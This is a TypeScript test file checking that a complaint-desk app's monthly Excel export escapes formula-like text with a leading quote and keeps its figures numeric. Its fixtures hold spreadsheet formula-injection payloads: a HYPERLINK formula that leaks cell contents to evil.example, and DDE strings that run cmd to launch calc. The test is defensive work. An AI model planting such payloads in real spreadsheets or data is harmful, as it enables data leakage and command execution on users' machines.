// Issue 11: text a spreadsheet could run as a formula (= + - @ at the start) never reaches an exported
// workbook as it is. A complaint whose location, category and department were typed (or imported from
// a hostile ledger) as formulas comes back from the monthly workbook prefixed with "'", in string cells,
// with no <f> anywhere, while the figures stay numbers.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { inflateRawSync } from 'node:zlib';
import { tempCore, must } from '../helpers/temp-core';
import { monthlyWorkbook } from '../../../electron/core/reports/workbook';
import { fromCst } from '../../../shared/domain/time';
import type { MonthlyReportT } from '../../../shared/contract/reports';
import type { DeskConfigT, TicketDetailT } from '../../../shared/contract/desk';

type Core = Awaited<ReturnType<typeof tempCore>>;
let core: Core;
let report: MonthlyReportT;
const call = <T>(channel: string, input: unknown) => must(core.dispatch(channel, input) as never) as Promise<T>;

const HOSTILE = {
  location: '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
  category: "+cmd|' /C calc'!A0",
  department: "@SUM(1+1)*cmd|' /C calc'!A0",
};

/** every file of an .xlsx (a zip), inflated: to look at the XML exceljs wrote, not only at what it reads back */
function zipTexts(buf: Buffer): Map<string, string> {
  const out = new Map<string, string>();
  let eocd = buf.length - 22;
  while (buf.readUInt32LE(eocd) !== 0x06054b50) eocd--;
  let p = buf.readUInt32LE(eocd + 16);
  for (let i = buf.readUInt16LE(eocd + 10); i > 0; i--) {
    const method = buf.readUInt16LE(p + 10);
    const size = buf.readUInt32LE(p + 20);
    const nameLen = buf.readUInt16LE(p + 28);
    const local = buf.readUInt32LE(p + 42);
    const name = buf.toString('utf8', p + 46, p + 46 + nameLen);
    p += 46 + nameLen + buf.readUInt16LE(p + 30) + buf.readUInt16LE(p + 32);
    const start = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    const data = buf.subarray(start, start + size);
    out.set(name, (method === 8 ? inflateRawSync(data) : data).toString('utf8'));
  }
  return out;
}

beforeAll(async () => {
  core = await tempCore();
  core.ctx.now = () => fromCst(2026, 10, 8, 10);
  const estate = await call<{ id: number }>('archives.estates.create', { name: '翠湖花园' });
  // settings are typed by staff: a category and a department named like formulas are allowed there
  const config = await call<DeskConfigT>('desk.config.get', {});
  await call('desk.config.update', {
    categories: [...config.categories, { name: HOSTILE.category, children: [] }],
    departments: [...config.departments, { name: HOSTILE.department, staff: [] }],
  });
  const t = await call<TicketDetailT>('desk.tickets.create', {
    estateId: estate.id,
    type: '投诉',
    urgency: '一般',
    channel: '电话',
    reporter: '业主',
    phone: '13800001111',
    description: '=HYPERLINK("http://evil.example","点我")',
    location: HOSTILE.location,
    category: HOSTILE.category,
  });
  core.ctx.now = () => fromCst(2026, 10, 8, 11);
  await call('desk.tickets.transition', { id: t.ticket.id, action: 'dispatch', department: HOSTILE.department });
  report = await call<MonthlyReportT>('reports.monthly.get', { estateId: estate.id, month: '2026-10' });
});
afterAll(async () => {
  await core.cleanup();
});

describe('formula-like text in the monthly workbook', () => {
  it('reads back with a leading quote, as text, and no formula is written', async () => {
    const buf = await monthlyWorkbook(core.ctx, report);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(new Uint8Array(buf).buffer);
    const values: unknown[] = [];
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((c) => values.push(c.value)));
    // each hostile text appears, only ever behind the quote
    for (const text of Object.values(HOSTILE)) {
      expect(values, text).toContain(`'${text}`);
      expect(values).not.toContain(text);
    }
    // no cell anywhere starts with a formula character, and none is a formula
    const strings = values.filter((v): v is string => typeof v === 'string');
    expect(strings.filter((s) => /^[=+\-@\t\r]/.test(s))).toEqual([]);
    expect(values.filter((v) => typeof v === 'object' && v !== null && ('formula' in v || 'sharedFormula' in v))).toEqual([]);
    for (const [name, xml] of zipTexts(buf)) if (name.startsWith('xl/worksheets/')) expect(xml, name).not.toMatch(/<f[\s>]/);

    // the figures stay numbers
    const sum = wb.getWorksheet('汇总')!;
    let total: unknown = null;
    sum.eachRow((row) => {
      if (row.getCell(1).value === '投诉总数（件）') total = row.getCell(2).value;
    });
    expect(total).toBe(1);
    const byCategory = wb.getWorksheet('分类')!.getRow(2);
    expect([byCategory.getCell(1).value, byCategory.getCell(2).value, byCategory.getCell(3).value]).toEqual([`'${HOSTILE.category}`, 1, 1]);
  });
});
